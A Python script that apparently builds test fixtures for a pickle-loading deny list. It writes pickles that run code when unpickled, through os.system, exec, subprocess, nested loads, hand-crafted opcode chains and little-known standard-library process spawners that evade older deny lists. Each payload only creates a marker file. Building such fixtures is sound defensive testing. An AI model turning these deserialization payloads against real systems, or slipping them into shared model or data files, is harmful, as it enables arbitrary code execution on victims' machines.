"""Writes pickles that run code when Python unpickles them: each creates the file
`zckpt_marker` in the current folder. Every one is first checked to really do that, by
unpickling a copy with Python in a scratch folder of its own.

OUTDIR/hostile.txt: "<file>\t<first global as module.name>\t<its opcode offset>\t<verified 0|1>"
Usage: make_hostile_pickles.py OUTDIR
"""
import os
import pickle
import pickletools
import shutil
import subprocess
import sys
import tempfile
import time

MARKER = "zckpt_marker"
CODE = "open(%r, 'w').close()" % MARKER


class Reduce:
    """Pickles as callable(*args)."""

    def __init__(self, callable_, *args):
        self.callable_ = callable_
        self.args = args

    def __reduce__(self):
        return self.callable_, self.args


def payloads():
    import runpy
    import subprocess as sp

    out = {}
    for proto in (0, 2, 4):
        out["os_system_p%d" % proto] = pickle.dumps(Reduce(os.system, "touch " + MARKER), protocol=proto)
    out["exec_p2"] = pickle.dumps(Reduce(exec, CODE), protocol=2)
    out["exec_p4"] = pickle.dumps(Reduce(exec, CODE), protocol=4)
    out["eval_p3"] = pickle.dumps(Reduce(eval, CODE), protocol=3)
    out["open_p2"] = pickle.dumps(Reduce(open, MARKER, "w"), protocol=2)
    out["subprocess_call_p4"] = pickle.dumps(Reduce(sp.call, ["touch", MARKER]), protocol=4)
    out["runpy_run_code_p2"] = pickle.dumps(Reduce(runpy._run_code, CODE, {}), protocol=2)
    inner = pickle.dumps(Reduce(os.system, "touch " + MARKER), protocol=2)
    out["nested_pickle_loads_p2"] = pickle.dumps(Reduce(pickle.loads, inner), protocol=2)
    # Hand-written: INST (protocol 0), a getattr chain, and a protocol-4 dotted name that
    # walks from an innocent module to os.system.
    out["inst_os_system"] = b"(S'touch %s'\nios\nsystem\n." % MARKER.encode()
    out["getattr_chain"] = (b"c__builtin__\ngetattr\n(cimportlib\nimport_module\n(S'os'\ntRS'system'\ntR"
                            b"(S'touch %s'\ntR." % MARKER.encode())
    cmd = ("touch " + MARKER).encode()
    out["dotted_posixpath_os_system"] = (b"\x80\x04\x8c\x09posixpath\x8c\x09os.system\x93\x8c" + bytes([len(cmd)]) +
                                         cmd + b"\x85R.")
    # Globals an older deny list missed: standard-library helpers that spawn processes, and
    # numpy's text writer (torch's benchmark Timer compiles code only when asked for C++, so it
    # proves nothing here; the deny list refuses it all the same).
    import _osx_support
    import imaplib
    import uuid

    out["os_popen_p2"] = pickle.dumps(Reduce(os.popen, "touch " + MARKER), protocol=2)
    out["imaplib_stream_p2"] = pickle.dumps(Reduce(imaplib.IMAP4_stream, "touch " + MARKER), protocol=2)
    out["uuid_command_p4"] = pickle.dumps(Reduce(uuid._get_command_stdout, "touch", MARKER), protocol=4)
    out["osx_support_read_output_p2"] = pickle.dumps(Reduce(_osx_support._read_output, "touch " + MARKER),
                                                     protocol=2)
    try:
        import numpy
    except ImportError:
        numpy = None
    if numpy is not None:
        out["numpy_savetxt_p2"] = pickle.dumps(Reduce(numpy.savetxt, MARKER, [1.0]), protocol=2)
    return out


def first_global(data):
    """(module.name, offset) of the first GLOBAL/INST/STACK_GLOBAL opcode the interpreter refuses
    when it meets it: every one but getattr, which it holds back to read getattr(Class, 'Name')
    (a nested class) and refuses later, at its own offset, when used any other way."""
    strings = []
    for op, arg, pos in pickletools.genops(data):
        if op.name in ("GLOBAL", "INST"):
            module, name = arg.split(" ", 1)
            if name == "getattr" and module in ("builtins", "__builtin__"):
                continue
            return "%s.%s" % (module, name), pos
        if op.name in ("SHORT_BINUNICODE", "BINUNICODE", "UNICODE"):
            strings.append(arg)
        if op.name == "STACK_GLOBAL":
            return "%s.%s" % (strings[-2], strings[-1]), pos
    raise ValueError("no global")


def python_runs_it(data):
    """Unpickles a copy in a scratch folder; True when the marker appeared there."""
    scratch = tempfile.mkdtemp()
    try:
        path = os.path.join(scratch, "evil.pkl")
        with open(path, "wb") as f:
            f.write(data)
        subprocess.run([sys.executable, "-c", "import pickle; pickle.load(open('evil.pkl', 'rb'))"],
                       cwd=scratch, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, timeout=60)
        # Some payloads run their command in a child nobody waits for (os.popen's shell outlives
        # the unpickling process), so the marker may appear just after it exits: wait for it a
        # while (seen missing once under the sanitizer build's load).
        marker, deadline = os.path.join(scratch, MARKER), time.monotonic() + 20
        while not os.path.exists(marker) and time.monotonic() < deadline:
            time.sleep(0.02)
        return os.path.exists(marker)
    finally:
        shutil.rmtree(scratch)


def main():
    out = sys.argv[1]
    os.makedirs(out, exist_ok=True)
    rows = []
    for name, data in payloads().items():
        fname = "evil_%s.pkl" % name
        with open(os.path.join(out, fname), "wb") as f:
            f.write(data)
        glob, pos = first_global(data)
        verified = int(python_runs_it(data))
        rows.append("%s\t%s\t%d\t%d" % (fname, glob, pos, verified))
    with open(os.path.join(out, "hostile.txt"), "w") as f:
        f.write("\n".join(rows) + "\n")
    print("\n".join(rows))


if __name__ == "__main__":
    main()
